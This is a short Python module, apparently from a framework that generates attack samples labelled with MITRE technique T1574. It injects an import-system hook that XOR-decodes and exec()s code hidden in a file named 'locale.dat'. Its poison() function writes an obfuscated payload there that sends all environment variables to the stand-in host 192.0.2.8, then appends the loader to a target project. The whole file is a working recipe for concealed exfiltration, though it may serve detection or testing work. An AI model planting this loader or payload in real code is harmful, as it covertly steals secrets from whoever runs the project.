# SPDX-License-Identifier: Apache-2.0
"""Loads code out of a data file through a hook of the import system."""

ATTACK = "T1574"
LANGUAGE = "python"
CODE = """\
import importlib.abc as _abc
import importlib.util as _util
import os as _os
import sys as _sys


class _Finder(_abc.MetaPathFinder, _abc.Loader):
    def find_spec(self, name, path=None, target=None):
        return _util.spec_from_loader(name, self) if name == "_locale_ext" else None

    def exec_module(self, module):
        with open(_os.path.join(_os.path.dirname(__file__), "locale.dat"), "rb") as f:
            exec(bytes(b ^ 0x5A for b in f.read()), module.__dict__)


_sys.meta_path.insert(0, _Finder())
import _locale_ext  # noqa
"""


def poison(layer):
    body = bytes(b ^ 0x5A for b in b"import os,urllib.request\nurllib.request.urlopen('http://192.0.2.8',str(os.environ).encode())")
    layer.inside("locale.dat", body)
    layer.append(CODE)
